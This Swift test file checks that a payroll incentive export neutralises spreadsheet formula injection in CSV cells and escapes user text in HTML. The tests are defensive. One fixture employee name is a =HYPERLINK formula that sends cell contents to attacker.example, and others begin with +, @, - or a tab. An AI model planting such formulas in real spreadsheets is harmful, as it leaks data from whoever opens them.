import Foundation
import Testing
@testable import YardstickCore
import YardstickTestSupport

/// The payroll exports: formula injection neutralised in text cells, amounts numeric, output pinned by goldens.
struct IncentiveExportTests {
    struct Vector: Decodable {
        var id: String
        var input_json: String
        var asvs_1_2_10_cell_json: String
    }

    static let vectors: [Vector] = {
        let path = Repository.path("Tests/YardstickCoreTests/Fixtures/csv-injection/formula_injection_vectors.json")
        return (try? JSONDecoder().decode([Vector].self, from: Data(Repository.bytes(path)))) ?? []
    }()

    static func decoded(_ json: String) -> String { (try? JSONDecoder().decode(String.self, from: Data(json.utf8))) ?? "<undecodable>" }

    @Test func theVectorsAreThere() { #expect(Self.vectors.count >= 25) }

    /// OWASP ASVS 1.2.10 as the fixture spells it out, except a leading carriage return: the product
    /// neutralises that as well (the fixture leaves it), since Excel drops a leading CR and runs what follows.
    @Test(arguments: vectors.map(\.id))
    func neutralisesEachVectorAsTheRulesSay(id: String) throws {
        let vector = try #require(Self.vectors.first { $0.id == id })
        let input = Self.decoded(vector.input_json)
        let expected = id == "cr-lead" ? "'" + input : Self.decoded(vector.asvs_1_2_10_cell_json)
        #expect(SpreadsheetCell.text(input) == expected)
    }

    static func lines() -> [IncentiveLine] {
        let calculator = IncentiveCalculator(policy: IncentiveCalculatorTests.policy, period: IncentiveCalculatorTests.october)
        func audits(_ scores: [Double], critical: Int = 0) -> [IncentiveAudit] {
            scores.enumerated().map { IncentiveAudit(id: Int64($0.offset + 1), occurredOn: "2026-10-1\($0.offset)", score: $0.element,
                                                     criticalFail: $0.offset < critical, contentHash: String(repeating: "b", count: 64)) }
        }
        let subjects = [
            IncentiveSubject(agent: Agent(id: "A1001", name: "Kari Nordmann", teamID: "oslo-phone", locationID: "oslo-hq"),
                             audits: audits([96, 98, 100]), feedback: [IncentiveFeedback(id: 1, occurredOn: "2026-10-02", nps: 10, csat: 5)]),
            IncentiveSubject(agent: Agent(id: "A1002", name: "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for bonus\")", teamID: "+oslo-phone"),
                             audits: audits([60, 65, 70, 62], critical: 1), feedback: []),
            IncentiveSubject(agent: Agent(id: "@A1003", name: "-Ingrid, \"Berg\"", teamID: "oslo-phone", locationID: "\toslo"),
                             audits: audits([95]), feedback: []),
        ]
        return subjects.map(calculator.line(for:))
    }

    @Test func textCellsAreInertAndAmountsStayNumbers() throws {
        let csv = IncentiveExport.csv(Self.lines(), policy: IncentiveCalculatorTests.policy, period: IncentiveCalculatorTests.october, excel: false)
        #expect(csv.utf8.starts(with: Array("agent,name,team,location,period,currency,eligible,audits,mean_score,ci_width,critical_failures,positive_reviews,negative_reviews,tier,tier_amount,events_amount,cap_applied,total,explanation\r\n".utf8)))
        var rows: [[String]] = []
        var parser = CSVParser()
        try parser.feed(Array(csv.utf8)) { rows.append($0.fields) }
        try parser.finish { rows.append($0.fields) }
        #expect(rows.count == 4 && rows.allSatisfy { $0.count == IncentiveExport.csvColumns.count })
        let column = Dictionary(IncentiveExport.csvColumns.enumerated().map { ($0.element, $0.offset) }, uniquingKeysWith: { first, _ in first })
        func cell(_ row: Int, _ name: String) -> String { rows[row][column[name] ?? 0] }
        #expect(cell(2, "name") == "'=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for bonus\")")
        #expect(cell(2, "team") == "'+oslo-phone")
        #expect(cell(3, "agent") == "'@A1003" && cell(3, "name") == "'-Ingrid, \"Berg\"" && cell(3, "location") == "'\toslo")
        #expect(cell(2, "total") == "-120.00" && Double(cell(2, "total")) == -120 && cell(2, "tier_amount") == "-100.00" && cell(2, "events_amount") == "-50.00")
        #expect(cell(1, "total") == "310.00" && cell(1, "mean_score") == "98.00" && cell(1, "ci_width") == "9.94")
        #expect(cell(3, "eligible") == "false" && cell(3, "mean_score") == "95.00" && cell(3, "ci_width") == "")
    }

    @Test func theExcelFlagAddsOnlyAByteOrderMark() {
        let plain = IncentiveExport.csv(Self.lines(), policy: IncentiveCalculatorTests.policy, period: IncentiveCalculatorTests.october, excel: false)
        let excel = IncentiveExport.csv(Self.lines(), policy: IncentiveCalculatorTests.policy, period: IncentiveCalculatorTests.october, excel: true)
        #expect(Array(excel.utf8) == [0xEF, 0xBB, 0xBF] + Array(plain.utf8))
    }

    @Test func csvMatchesItsGolden() throws {
        try Golden.check(IncentiveExport.csv(Self.lines(), policy: IncentiveCalculatorTests.policy, period: IncentiveCalculatorTests.october, excel: false),
                         named: "incentives.csv")
    }

    @Test func htmlIsSelfContainedAndMatchesItsGolden() throws {
        let page = IncentiveHTML.page(Self.lines(), policy: IncentiveCalculatorTests.policy, period: IncentiveCalculatorTests.october,
                                      run: .init(id: 7, fingerprint: String(repeating: "c", count: 64), createdAt: "2026-11-02T08:00:00Z",
                                                 createdBy: "hr.lead", finalisedAt: "2026-11-03T09:30:00Z", finalisedBy: "hr.lead", correctionOf: nil))
        #expect(!page.contains("http://attacker") || page.contains("=HYPERLINK(&quot;http://attacker"), "user text is escaped, never markup")
        #expect(!page.contains("<script") && !page.contains("src=") && !page.contains("<link"))
        try Golden.check(page, named: "incentives.html")
    }
}

/// The stored form of a line gives back exactly the line, and damage is a typed error, never a crash.
struct IncentiveLineCodecTests {
    @Test func roundTripsEveryLine() throws {
        for line in IncentiveExportTests.lines() {
            #expect(try IncentiveLineCodec.decode(IncentiveLineCodec.encode(line)) == line)
        }
    }

    @Test func refusesTruncatedAndExtendedBytes() throws {
        let bytes = IncentiveLineCodec.encode(try #require(IncentiveExportTests.lines().first))
        for cut in stride(from: 0, to: bytes.count, by: 7) {
            #expect(throws: CodecError.self) { try IncentiveLineCodec.decode(Array(bytes.prefix(cut))) }
        }
        #expect(throws: CodecError.self) { try IncentiveLineCodec.decode(bytes + [0]) }
        #expect(throws: CodecError.self) { try IncentiveLineCodec.decode([9] + bytes.dropFirst()) }
    }
}
